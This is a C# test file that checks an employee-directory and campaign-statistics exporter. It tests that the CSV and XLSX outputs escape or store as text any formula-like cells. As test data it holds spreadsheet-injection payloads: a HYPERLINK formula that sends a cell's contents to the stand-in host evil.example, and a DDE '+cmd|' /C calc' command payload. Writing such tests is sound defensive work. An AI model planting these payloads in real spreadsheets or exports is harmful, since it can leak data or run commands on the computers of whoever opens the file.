using System.IO.Compression;
using System.Text;
using Envoi.Core.Directory.Import;
using Envoi.Core.Tracking.Statistics;
using Envoi.Tests.Support;

namespace Envoi.Tests.DirectoryTests;

/// <summary>OWASP CSV injection: a value an employee planted never runs as a formula in the admin's spreadsheet.</summary>
public sealed class CsvInjectionTests
{
    private const string Planted = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";

    [Fact]
    public async Task Directory_csv_export_escapes_formula_cells_and_imports_back_unchanged()
    {
        await using var envoi = await EnvoiTestHost.StartAsync();
        await envoi.ImportEmployeesAsync($"email;displayName;jobTitle;mobile\nmallory@example.com;\"{Planted.Replace("\"", "\"\"")}\";@SUM(1+1);+33 6 12 34 56 78\nbob@example.com;-Bob;Engineer;\n");

        var exported = new MemoryStream();
        await envoi.Get<DirectoryExport>().WriteCsvAsync(exported, default);
        var csv = Encoding.UTF8.GetString(exported.ToArray());
        Assert.Contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\"", csv);
        Assert.Contains("'@SUM(1+1)", csv);
        Assert.Contains("'+33 6 12 34 56 78", csv);
        Assert.Contains("'-Bob", csv);
        Assert.Contains("bob@example.com", csv); // a plain cell is left alone
        Assert.DoesNotContain("'bob", csv);

        var import = envoi.Get<DirectoryImport>();
        var rows = CsvDirectoryReader.ReadAsync(new MemoryStream(exported.ToArray()), await import.AttributesAsync(default));
        var report = await import.RunAsync(rows, new ImportOptions("test", "export.csv", false, false), null, default);
        Assert.Equal(2, report.Unchanged);
    }

    private static StatsReport Report() =>
        new(new StatsPeriod(new DateOnly(2026, 11, 1), new DateOnly(2026, 11, 30)), StatsDimension.Campaign, null, new StatsRow("all", "all", 3, 1, 0, 0),
            [new StatsRow("c1", Planted, 2, 1, 0, 0), new StatsRow("c2", "+cmd|' /C calc'!A0", 1, 0, 0, 0), new StatsRow("c3", "Spring sale", 1, 0, 0, 0)]);

    [Fact]
    public async Task Statistics_csv_export_escapes_formula_cells()
    {
        var output = new MemoryStream();
        await StatsExport.WriteAsync(output, ExportFormat.Csv, [Report()], default);
        var lines = Encoding.UTF8.GetString(output.ToArray()).Split("\r\n");
        Assert.StartsWith("\"'=HYPERLINK(", lines[1]);
        Assert.StartsWith("\"'+cmd|' /C calc'!A0\",", lines[2]); // quoted: it holds a quote character
        Assert.StartsWith("Spring sale,", lines[3]);
    }

    [Fact]
    public async Task Statistics_xlsx_export_stores_formula_like_labels_as_text_never_as_formulas()
    {
        var output = new MemoryStream();
        await StatsExport.WriteAsync(output, ExportFormat.Xlsx, [Report()], default);
        using var zip = new ZipArchive(new MemoryStream(output.ToArray()));
        var sheets = zip.Entries.Where(e => e.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal) && e.FullName.EndsWith(".xml", StringComparison.Ordinal))
            .Select(e => new StreamReader(e.Open()).ReadToEnd()).ToList();
        Assert.NotEmpty(sheets);
        Assert.All(sheets, sheet => Assert.DoesNotContain("<x:f>", sheet));
        Assert.All(sheets, sheet => Assert.DoesNotContain("<f>", sheet));
        var everything = string.Concat(zip.Entries.Where(e => e.FullName.EndsWith(".xml", StringComparison.Ordinal)).Select(e => new StreamReader(e.Open()).ReadToEnd()));
        Assert.Contains("=HYPERLINK(", System.Net.WebUtility.HtmlDecode(everything));
    }
}
